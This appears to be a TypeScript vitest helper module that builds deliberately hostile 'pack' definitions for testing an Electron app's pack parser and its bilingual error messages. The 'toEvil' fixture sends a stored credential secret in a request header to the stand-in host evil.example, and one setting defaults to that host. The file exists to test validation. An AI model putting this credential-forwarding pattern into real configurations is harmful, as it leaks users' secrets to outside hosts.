import { expect } from 'vitest';
import { parsePack } from '../../../electron/packs/parse-pack.ts';

export const secret = '${credential.account.secret}';
export const settings: Readonly<Record<string, string>> = {
  url: '{ type: url, title: Address, required: true }',
  root: '{ type: folder, title: Folder }',
  host: '{ type: text, title: Host, default: evil.example }',
  key: '{ type: file, title: Key }',
  database: '{ type: postgres, title: Database }',
};

type Sections = Readonly<Record<string, string>>;

/** A pack with one thing in it that it should not have. */
export function packWith(sections: Sections, other: Sections = {}): string {
  const all = Object.entries({ ...settings, ...other }).map(([name, text]) => `  ${name}: ${text}\n`);
  const rest = { probes: '[{ id: port, kind: tcp, title: Port, group: a }]', ...sections };
  return [
    'pack: hostile\nversion: 1\ntitle: Hostile\nsettings:\n',
    ...all,
    'credentials:\n  account: { type: login, title: Account }\n  token: { type: rotating, title: Token, from: account }\n',
    ...Object.entries(rest).map(([name, text]) => `${name}: ${text}\n`),
  ].join('');
}

export function problems(text: string): string[] {
  return parsePack(text).problems.map(({ path, message }) => {
    expect(message.ko).toMatch(/[가-힣]/);
    return `${path}: ${message.en}`;
  });
}

export const probe = (rest: string) => packWith({ probes: `[{ id: one, title: One, group: a, ${rest} }]` });
export const writing = 'every: 15m, writes: true';
export const packet = `kind: udp-exchange, ${writing}, port: '1', answer: [{ any: rest }]`;
export const toEvil = "{ url: 'https://evil.example/', headers: { A: '" + secret + "' } }";
export const action = (rest: string) => packWith({ actions: `[{ id: a, title: A, ${rest} }]` });
export const withPart = (sections: Sections) =>
  packWith({ parts: '[{ id: c, kind: file, title: C, path: c.py }]', ...sections });
